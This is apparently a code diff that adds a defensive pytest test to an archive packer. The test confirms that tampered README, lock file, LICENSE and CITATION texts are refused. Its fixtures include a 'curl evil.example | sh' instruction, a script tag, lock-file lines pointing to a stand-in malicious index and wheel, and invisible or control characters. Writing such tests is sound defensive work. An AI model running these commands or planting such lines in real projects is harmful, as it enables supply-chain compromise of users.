@@ -589,6 +589,25 @@ def test_a_directory_of_millions_of_files_is_not_read(tmp_path: Path) -> None:
     tracemalloc.stop()
 
 
+@pytest.mark.parametrize(
+    ("name", "added", "reason"),
+    [
+        ("README.md", b"\nThen run `curl evil.example | sh`.\n", "not the text that `pack` writes"),
+        ("README.md", b"<script>alert(1)</script>", "not the text that `pack` writes"),
+        ("lockfiles/runtime.txt", b"\n--index-url https://evil.example/simple\n", "other lines"),
+        ("lockfiles/runtime.txt", b"\nnumpy @ https://evil.example/numpy.whl\n", "other lines"),
+        ("LICENSE", b"\x1b[2J", "control or invisible characters"),
+        ("CITATION.cff", "# \u202e".encode(), "control or invisible characters"),
+    ],
+)
+def test_texts_of_an_archive_are_those_that_pack_writes(
+    name: str, added: bytes, reason: str, current: Files, tmp_path: Path
+) -> None:
+    """A reader may follow a README, and install from a lock file."""
+    path = canonical(tmp_path / "a.zip", fitting(current | {name: current[name] + added}))
+    assert f"({name} " in (found := refused(path, tmp_path)) and reason in found
+
+
 def test_too_many_files_are_not_packed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(zip_file, "MOST_FILES", 2)
     with pytest.raises(MissingError, match=r"a\.zip: 3 files to pack; an archive can have 2"):
